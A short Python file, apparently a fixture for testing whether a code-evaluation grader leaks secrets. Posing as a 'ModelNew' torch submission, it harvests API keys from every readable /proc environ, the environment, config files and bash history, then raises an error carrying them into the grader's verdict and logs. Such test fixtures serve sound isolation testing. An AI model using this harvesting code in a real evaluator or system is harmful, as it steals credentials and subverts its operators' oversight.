"""Reads every process's environment it can find (the parent's API key), then raises with the loot, so the
loot would land in the verdict's message and log if it found any."""
import os

import torch

loot = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                loot.append(handle.read().decode(errors="replace"))
        except OSError:
            pass
loot.append(repr(dict(os.environ)))
for path in ("__HOME__/settings.toml", "__HOME__/refinery.db", os.path.expanduser("~/.bash_history")):
    try:
        loot.append(open(path, errors="replace").read())
    except OSError:
        pass


class ModelNew(torch.nn.Module):
    def forward(self, x):
        raise RuntimeError("LOOT:" + " | ".join(loot))
